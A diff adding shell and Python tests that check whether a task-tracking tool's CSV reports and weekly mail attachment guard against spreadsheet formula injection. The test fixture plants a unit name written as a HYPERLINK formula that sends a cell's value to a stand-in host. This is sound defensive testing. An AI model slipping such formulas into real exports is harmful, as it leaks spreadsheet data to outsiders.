@@ -345,4 +345,62 @@ tr_ --db "$UDB" feed --unit "Khối nội chính" --units "$T/renamed-units.json
 check "feed serves the group the file added" \
 	eval 'rc_is 0 && grep -q "^X-WR-CALNAME:.*Khối nội chính" "$T/out"'
 
+# ---- the formula guard in every CSV the office gets ------------------------
+# A units file whose names a spreadsheet would run as formulas (= + - @ first;
+# the notices name the units by their former names, now aliases): the weekly
+# mail's attachment and `report --table --csv` carry each one as text, with a
+# leading apostrophe, and the counts stay plain numbers.
+$PY - "$TOP/sample-data/units.json" >guard.json <<'EOF'
+import json, sys
+d = json.load(open(sys.argv[1]))
+new = {"Sở Tư pháp": '=HYPERLINK("http://x.example/?"&A1,"Sở Tư pháp")',
+       "Sở Nội vụ": "-Sở Nội vụ", "Sở Tài chính": "@Sở Tài chính",
+       "Sở Thông tin và Truyền thông": "+Sở Thông tin và Truyền thông"}
+for u in d["units"]:
+    if u["name"] in new:
+        u["aliases"] = u.get("aliases", []) + [u["name"]]
+        u["name"] = new[u["name"]]
+json.dump(d, sys.stdout, ensure_ascii=False)
+EOF
+# csv_guarded FILE: the table CSV in FILE has each of those names guarded,
+# no cell a spreadsheet would run, and counts as bare numbers.
+csv_guarded() {
+	$PY - "$1" <<'EOF'
+import csv, io, re, sys
+text = open(sys.argv[1], "rb").read().decode("utf-8")
+rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
+want = {"'=HYPERLINK(\"http://x.example/?\"&A1,\"Sở Tư pháp\")", "'-Sở Nội vụ",
+        "'@Sở Tài chính", "'+Sở Thông tin và Truyền thông"}
+names = {r[0] for r in rows[1:]}
+bad = [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+nums = all(re.fullmatch(r"\d+", c) for r in rows[1:] for c in r[1:9])
+ok = text.startswith("\ufeff") and want <= names and not bad and nums
+if not ok:
+    print("#   names %r, unguarded %r" % (sorted(names), bad), file=sys.stderr)
+sys.exit(0 if ok else 1)
+EOF
+}
+GDB="$T/g.db"
+GB="$T/gmail"
+start_smtp "$GB"
+tr_ --db "$GDB" --units guard.json import --today 2026-11-20 a.txt b.txt
+check "notices import under a units file with formula-like names" rc_is 0
+tr_ --db "$GDB" --units guard.json report --table --csv --today 2026-11-23
+check "report --table --csv writes such unit names as text (leading apostrophe)" \
+	eval 'rc_is 0 && csv_guarded "$T/out"'
+tr_ --db "$GDB" --units guard.json report --weekly --today 2026-11-23 --smtp "smtp://127.0.0.1:$PORT"
+check "report --weekly sends the office's mail" rc_is 0
+# The attachment as the office's mail program decodes it.
+$PY - "$GB" >"$T/att.csv" <<'EOF'
+import email, email.policy, mailbox, sys
+box = mailbox.Maildir(sys.argv[1], factory=None, create=False)
+for k in box.keys():
+    m = email.message_from_bytes(box.get_bytes(k), policy=email.policy.default)
+    for a in m.iter_attachments():
+        if a.get_filename() == "tong-hop-nhiem-vu.csv":
+            sys.stdout.buffer.write(a.get_payload(decode=True))
+EOF
+check "the weekly mail's CSV attachment writes them as text too" csv_guarded "$T/att.csv"
+stop_smtp
+
 t_done
